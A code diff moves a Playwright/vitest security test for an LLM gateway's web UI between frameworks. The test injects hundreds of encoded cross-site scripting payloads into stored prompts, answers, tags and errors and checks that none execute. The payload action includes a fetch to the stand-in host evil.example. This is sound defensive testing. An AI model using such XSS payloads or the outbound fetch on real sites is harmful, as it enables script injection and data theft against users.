@@ -1,7 +1,5 @@
-import { afterAll, beforeAll, expect, it } from 'vitest';
-import { openChromium, type TestBrowser } from '../support/chromium.ts';
-import { type SpawnedGateway, spawnTestGateway } from '../support/test-gateway.ts';
-import { openWindow } from './open-window.ts';
+import { expect } from '@playwright/test';
+import { test } from './window-test.ts';
 
 const action = "globalThis.__breached='1';alert(1);fetch('https://evil.example/x')";
 const encodings = [
@@ -41,21 +39,15 @@ const vectors = [
 /** 25 vectors × 5 spellings × 4 places = 500. */
 const payloads = vectors.flatMap((vector) => encodings.map((encode) => encode(vector)));
 
-let browser: TestBrowser;
-let gateway: SpawnedGateway;
-beforeAll(async () => {
-  [browser, gateway] = await Promise.all([openChromium(), spawnTestGateway()]);
-});
-afterAll(async () => {
-  await browser.close();
-  await gateway.close();
-});
-
 /** Header values are bytes of one line. */
 const asHeader = (text: string): string =>
   encodeURIComponent(text).replaceAll('%20', ' ').replaceAll('%3C', '<').replaceAll('%3E', '>').replaceAll('%22', '"').slice(0, 200);
 
-it(`${payloads.length * 4} stored payloads in prompts, answers, tool names, tags, model names and errors are inert`, async () => {
+test(`${payloads.length * 4} stored payloads in prompts, answers, tool names, tags, model names and errors are inert`, async ({
+  gateway,
+  openWindow,
+}) => {
+  test.setTimeout(120_000);
   const ids: string[] = [];
   for (const [index, payload] of payloads.entries()) {
     gateway.upstream.enqueue(
@@ -103,7 +95,7 @@ it(`${payloads.length * 4} stored payloads in prompts, answers, tool names, tags
     );
     ids.push(reply.headers['x-tollgate-call-id'] ?? '');
   }
-  const { page, problems, close, visit } = await openWindow(browser.context, gateway, '/calls');
+  const { page, visit } = await openWindow('/calls');
   await page.getByText('local', { exact: true }).filter({ visible: true }).first().waitFor();
   const scripts = await page.locator('script').count();
   for (const path of ['/', '/?by=tag%3Ateam', '/connect', '/keys', '/providers', ...ids.map((id) => `/calls/${id}`)]) {
@@ -118,6 +110,4 @@ it(`${payloads.length * 4} stored payloads in prompts, answers, tool names, tags
   expect(await page.evaluate(() => (globalThis as { __breached?: string }).__breached)).toBeUndefined();
   expect(await page.locator('script').count()).toBe(scripts);
   expect(await page.locator('iframe, object, embed, base, meta[http-equiv], style').count()).toBe(0);
-  expect(problems.filter((problem) => !problem.includes('404'))).toEqual([]);
-  await close();
-}, 120_000);
+});
